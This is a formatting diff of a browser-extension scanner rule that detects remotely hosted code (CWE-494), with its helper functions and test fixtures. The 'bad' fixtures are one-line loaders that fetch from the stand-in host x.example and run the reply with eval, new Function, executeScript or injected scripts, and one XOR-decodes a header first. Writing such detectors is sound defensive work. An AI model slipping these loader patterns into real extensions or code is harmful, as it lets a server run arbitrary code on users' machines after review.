@@ -21,9 +21,13 @@ export const remoteCode = defineRule({
   category: 'code',
   applies: 'both',
   cwe: 'CWE-494',
-  references: ['https://developer.chrome.com/docs/extensions/develop/migrate/remote-hosted-code', 'https://cwe.mitre.org/data/definitions/494.html'],
+  references: [
+    'https://developer.chrome.com/docs/extensions/develop/migrate/remote-hosted-code',
+    'https://cwe.mitre.org/data/definitions/494.html',
+  ],
   why: 'The server decides what runs, at any time and for each person separately, after every review is over. Whoever owns or breaks into that server owns the program.',
-  remedy: 'Ship all code in the package. Fetch data only, read it with JSON.parse, and let fixed code decide what to do with it.',
+  remedy:
+    'Ship all code in the package. Fetch data only, read it with JSON.parse, and let fixed code decide what to do with it.',
   cap: { grade: 'F', reason: 'it runs code that a server sends' },
   check: checkScripts(function* ({ script, hit, facts }) {
     for (const run of codeRunsOf(script)) {
@@ -35,13 +39,19 @@ export const remoteCode = defineRule({
       if (run.kind === 'unsure' && !isPlainData(script, run.code) && !isResult(script, run.code)) continue;
       const certain = CERTAIN.has(run.kind);
       if (script.stats.values > LIBRARY && !isFromKnownServer(script, run.code)) {
-        yield hit(run.value, { severity: 'high', confidence: 'low', message: 'Where the text comes from is not seen: it may be a library that can do this if it is asked to.' });
+        yield hit(run.value, {
+          severity: 'high',
+          confidence: 'low',
+          message: 'Where the text comes from is not seen: it may be a library that can do this if it is asked to.',
+        });
         continue;
       }
       yield hit(run.value, {
         ...(certain || facts.kind === 'extension' ? {} : { severity: 'high' as const }),
         ...(certain ? {} : { confidence: 'medium' as const }),
-        ...(run.kind === 'injected' || run.kind === 'script-element' || run.kind === 'user-script' ? { message: 'The answer of a request becomes a script in web pages.' } : {}),
+        ...(run.kind === 'injected' || run.kind === 'script-element' || run.kind === 'user-script'
+          ? { message: 'The answer of a request becomes a script in web pages.' }
+          : {}),
       });
     }
   }),
@@ -49,49 +59,130 @@ export const remoteCode = defineRule({
     bad: [
       backgroundExample('fetch("https://x.example/a.js").then((r) => r.text()).then(eval);'),
       backgroundExample('fetch("https://x.example/a").then((r) => r.text()).then((t) => { eval(t); });'),
-      backgroundExample('async function load() { const r = await fetch("https://x.example/c"); const { script } = await r.json(); new Function(script)(); } load();'),
-      backgroundExample('const x = new XMLHttpRequest(); x.open("GET", "https://x.example/a"); x.onload = function () { (0, eval)(this.responseText); }; x.send();'),
-      backgroundExample('const x = new XMLHttpRequest(); x.onreadystatechange = () => { if (x.readyState === 4) chrome.tabs.executeScript({ code: x.responseText }); };', { manifest_version: 2 }),
-      contentExample('fetch("https://x.example/a").then((r) => r.text()).then((code) => { const s = document.createElement("script"); s.textContent = code; document.head.append(s); });'),
-      backgroundExample('const s = new WebSocket("wss://x.example"); s.onmessage = (e) => { [].constructor.constructor(e.data)(); };'),
+      backgroundExample(
+        'async function load() { const r = await fetch("https://x.example/c"); const { script } = await r.json(); new Function(script)(); } load();',
+      ),
+      backgroundExample(
+        'const x = new XMLHttpRequest(); x.open("GET", "https://x.example/a"); x.onload = function () { (0, eval)(this.responseText); }; x.send();',
+      ),
+      backgroundExample(
+        'const x = new XMLHttpRequest(); x.onreadystatechange = () => { if (x.readyState === 4) chrome.tabs.executeScript({ code: x.responseText }); };',
+        { manifest_version: 2 },
+      ),
+      contentExample(
+        'fetch("https://x.example/a").then((r) => r.text()).then((code) => { const s = document.createElement("script"); s.textContent = code; document.head.append(s); });',
+      ),
+      backgroundExample(
+        'const s = new WebSocket("wss://x.example"); s.onmessage = (e) => { [].constructor.constructor(e.data)(); };',
+      ),
       backgroundExample('$.get("https://x.example/r", (r) => { setTimeout("run(" + r + ")", 10); });'),
-      backgroundExample('fetch("https://x.example/p").then((r) => r.text()).then((p) => { const i = new Interpreter(p); i.run(); });'),
+      backgroundExample(
+        'fetch("https://x.example/p").then((r) => r.text()).then((p) => { const i = new Interpreter(p); i.run(); });',
+      ),
       backgroundExample('fetch("https://x.example/t").then((r) => r.text()).then((t) => setTimeout(t, 100));'),
-      backgroundExample('fetch("https://x.example/t").then((r) => r.json()).then((c) => chrome.tabs.executeScript(null, c.inject));', { manifest_version: 2 }),
-      contentExample('fetch("https://x.example/t").then((r) => r.text()).then((t) => { const s = document.createElement("script"); s.src = "data:text/javascript," + encodeURIComponent(t); document.head.append(s); });'),
-      backgroundExample('fetch("https://x.example/c").then((r) => r.text()).then((t) => chrome.storage.local.set({ part: t })); chrome.storage.local.get("part", ({ part }) => new Function(part)());'),
-      backgroundExample('fetch("https://x.example/c").then((r) => r.json()).then((c) => { localStorage["conf"] = JSON.stringify(c); }); chrome.tabs.onUpdated.addListener((id) => { const c = JSON.parse(localStorage["conf"] || "{}"); chrome.tabs.executeScript(id, { code: c.js }); });', { manifest_version: 2 }),
-      { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["cs.js"]}]}', 'bg.js': 'chrome.runtime.onMessage.addListener((m, s, reply) => { fetch("https://x.example/t").then((r) => r.text()).then(reply); return true; });', 'cs.js': 'chrome.runtime.sendMessage({ get: 1 }, (t) => { const d = document.createElement("div"); d.setAttribute("onreset", t); document.body.append(d); });' } },
-      contentExample('const x = new XMLHttpRequest(); x.open("GET", "https://x.example/i"); x.onload = () => { document.body.append(document.createRange().createContextualFragment(x.response)); }; x.send();'),
+      backgroundExample(
+        'fetch("https://x.example/t").then((r) => r.json()).then((c) => chrome.tabs.executeScript(null, c.inject));',
+        { manifest_version: 2 },
+      ),
+      contentExample(
+        'fetch("https://x.example/t").then((r) => r.text()).then((t) => { const s = document.createElement("script"); s.src = "data:text/javascript," + encodeURIComponent(t); document.head.append(s); });',
+      ),
+      backgroundExample(
+        'fetch("https://x.example/c").then((r) => r.text()).then((t) => chrome.storage.local.set({ part: t })); chrome.storage.local.get("part", ({ part }) => new Function(part)());',
+      ),
+      backgroundExample(
+        'fetch("https://x.example/c").then((r) => r.json()).then((c) => { localStorage["conf"] = JSON.stringify(c); }); chrome.tabs.onUpdated.addListener((id) => { const c = JSON.parse(localStorage["conf"] || "{}"); chrome.tabs.executeScript(id, { code: c.js }); });',
+        { manifest_version: 2 },
+      ),
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["cs.js"]}]}',
+          'bg.js':
+            'chrome.runtime.onMessage.addListener((m, s, reply) => { fetch("https://x.example/t").then((r) => r.text()).then(reply); return true; });',
+          'cs.js':
+            'chrome.runtime.sendMessage({ get: 1 }, (t) => { const d = document.createElement("div"); d.setAttribute("onreset", t); document.body.append(d); });',
+        },
+      },
+      contentExample(
+        'const x = new XMLHttpRequest(); x.open("GET", "https://x.example/i"); x.onload = () => { document.body.append(document.createRange().createContextualFragment(x.response)); }; x.send();',
+      ),
       contentExample('$.get("https://x.example/w", (d) => { $("body").append("<script>" + d + "</" + "script>"); });'),
       backgroundExample('self.addEventListener("push", (e) => { const m = e.data.json(); eval(m.run); });'),
-      backgroundExample('fetch("https://x.example/a.css").then((r) => { let s = ""; atob(r.headers.get("x-v")).split("").forEach((c, i) => { s += String.fromCharCode(c.charCodeAt(0) ^ (i % 7)); }); (0, eval)(s); });'),
-      { files: { 'setup.js': 'const https = require("https"); https.get("https://x.example/s", (r) => { let d = ""; r.on("data", (c) => { d += c; }); r.on("end", () => eval(d)); });' } },
-      contentExample('(async () => { const { effect } = await (await fetch("https://x.example/s.json")).json(); await import(`data:text/javascript;charset=utf-8,${encodeURIComponent(effect)}`); })();'),
+      backgroundExample(
+        'fetch("https://x.example/a.css").then((r) => { let s = ""; atob(r.headers.get("x-v")).split("").forEach((c, i) => { s += String.fromCharCode(c.charCodeAt(0) ^ (i % 7)); }); (0, eval)(s); });',
+      ),
+      {
+        files: {
+          'setup.js':
+            'const https = require("https"); https.get("https://x.example/s", (r) => { let d = ""; r.on("data", (c) => { d += c; }); r.on("end", () => eval(d)); });',
+        },
+      },
+      contentExample(
+        '(async () => { const { effect } = await (await fetch("https://x.example/s.json")).json(); await import(`data:text/javascript;charset=utf-8,${encodeURIComponent(effect)}`); })();',
+      ),
     ],
     good: [
-      contentExample('import("data:text/javascript,export default 1").then((m) => { fetch("https://x.example/v?" + m.default); });'),
-      backgroundExample('function load(url, done) { fetch(url).then((r) => r.json()).then((d) => { setTimeout(done, 100); setTimeout(() => done(d), 10); }); } load("https://x.example/a", show); new Promise((resolve) => setTimeout(resolve, 5));'),
-      contentExample('fetch(chrome.runtime.getURL("inject.js")).then((r) => r.text()).then((code) => { const s = document.createElement("script"); s.textContent = code; document.head.append(s); });'),
-      backgroundExample('const x = new XMLHttpRequest(); x.open("GET", chrome.extension.getURL("page.js")); x.onload = function () { chrome.tabs.executeScript({ code: this.responseText }); }; x.send();', { manifest_version: 2 }),
-      backgroundExample('fetch("https://x.example/c").then((r) => r.json()).then((flags) => chrome.storage.local.set({ flags })); chrome.storage.local.get("rule", ({ rule }) => new Function(rule)());'),
-      backgroundExample('fetch("https://x.example/c").then((r) => r.json()).then((c) => chrome.storage.local.set({ zoom: c.zoom })); chrome.storage.local.get("zoom", ({ zoom }) => chrome.tabs.executeScript({ code: "document.body.style.zoom = " + zoom }));', { manifest_version: 2 }),
-      backgroundExample('self.addEventListener("push", (e) => { self.registration.showNotification(e.data.text()); }); eval("1");'),
-      backgroundExample('fetch("https://x.example/a.json").then((r) => r.json()).then((data) => { show(data.title); });'),
-      backgroundExample('fetch("https://x.example/a").then((r) => r.text()).then((t) => { JSON.parse(t); }); eval("1 + 1");'),
-      contentExample('fetch("https://x.example/a").then((r) => r.text()).then((css) => { const s = document.createElement("style"); s.textContent = css; document.head.append(s); });'),
-      contentExample('const s = document.createElement("script"); s.src = chrome.runtime.getURL("page.js"); document.head.append(s);'),
+      contentExample(
+        'import("data:text/javascript,export default 1").then((m) => { fetch("https://x.example/v?" + m.default); });',
+      ),
+      backgroundExample(
+        'function load(url, done) { fetch(url).then((r) => r.json()).then((d) => { setTimeout(done, 100); setTimeout(() => done(d), 10); }); } load("https://x.example/a", show); new Promise((resolve) => setTimeout(resolve, 5));',
+      ),
+      contentExample(
+        'fetch(chrome.runtime.getURL("inject.js")).then((r) => r.text()).then((code) => { const s = document.createElement("script"); s.textContent = code; document.head.append(s); });',
+      ),
+      backgroundExample(
+        'const x = new XMLHttpRequest(); x.open("GET", chrome.extension.getURL("page.js")); x.onload = function () { chrome.tabs.executeScript({ code: this.responseText }); }; x.send();',
+        { manifest_version: 2 },
+      ),
+      backgroundExample(
+        'fetch("https://x.example/c").then((r) => r.json()).then((flags) => chrome.storage.local.set({ flags })); chrome.storage.local.get("rule", ({ rule }) => new Function(rule)());',
+      ),
+      backgroundExample(
+        'fetch("https://x.example/c").then((r) => r.json()).then((c) => chrome.storage.local.set({ zoom: c.zoom })); chrome.storage.local.get("zoom", ({ zoom }) => chrome.tabs.executeScript({ code: "document.body.style.zoom = " + zoom }));',
+        { manifest_version: 2 },
+      ),
+      backgroundExample(
+        'self.addEventListener("push", (e) => { self.registration.showNotification(e.data.text()); }); eval("1");',
+      ),
+      backgroundExample(
+        'fetch("https://x.example/a.json").then((r) => r.json()).then((data) => { show(data.title); });',
+      ),
+      backgroundExample(
+        'fetch("https://x.example/a").then((r) => r.text()).then((t) => { JSON.parse(t); }); eval("1 + 1");',
+      ),
+      contentExample(
+        'fetch("https://x.example/a").then((r) => r.text()).then((css) => { const s = document.createElement("style"); s.textContent = css; document.head.append(s); });',
+      ),
+      contentExample(
+        'const s = document.createElement("script"); s.src = chrome.runtime.getURL("page.js"); document.head.append(s);',
+      ),
     ],
   },
 });
 
 /** What a server sent was kept or handed on before it is run. */
 function* roundabout(facts: Facts, script: ScriptFacts, run: CodeRun, hit: Judged['hit']): Generator<Hit> {
-  if (run.code === 0 || facts.kind !== 'extension' || (run.kind === 'unsure' && !isPlainData(script, run.code)) || isMostlyOwn(script, run.code)) return;
+  if (
+    run.code === 0 ||
+    facts.kind !== 'extension' ||
+    (run.kind === 'unsure' && !isPlainData(script, run.code)) ||
+    isMostlyOwn(script, run.code)
+  )
+    return;
   // Managers of user scripts keep scripts that the person chose.
-  const mild = run.kind === 'user-script' ? ({ severity: 'medium', confidence: 'low' } as const) : ({ severity: 'high', confidence: 'medium' } as const);
-  if (isHeldServerText(facts, script, run.code)) yield hit(run.value, { ...mild, message: 'A server sent the text, it was kept, and is run when it is taken out again.' });
-  else if (isAnswer(script, run.code) && facts.whole(answersFromServer)) yield hit(run.value, { ...mild, message: 'The background fetches the text and hands it to this script.' });
+  const mild =
+    run.kind === 'user-script'
+      ? ({ severity: 'medium', confidence: 'low' } as const)
+      : ({ severity: 'high', confidence: 'medium' } as const);
+  if (isHeldServerText(facts, script, run.code))
+    yield hit(run.value, {
+      ...mild,
+      message: 'A server sent the text, it was kept, and is run when it is taken out again.',
+    });
+  else if (isAnswer(script, run.code) && facts.whole(answersFromServer))
+    yield hit(run.value, { ...mild, message: 'The background fetches the text and hands it to this script.' });
 }
 
 /** Nothing that it is made of is a function: `setTimeout(next, 100)` is no text. */
@@ -105,5 +196,9 @@ function isPlainData(script: ScriptFacts, value: number): boolean {
 
 /** What a request to a database gives: `request.result`. */
 function isResult(script: ScriptFacts, value: number): boolean {
-  return script.op[value] === Op.member && nameOf(script, value) === 'result' && originPaths(script, value).has('indexedDB.open');
+  return (
+    script.op[value] === Op.member &&
+    nameOf(script, value) === 'result' &&
+    originPaths(script, value).has('indexedDB.open')
+  );
 }
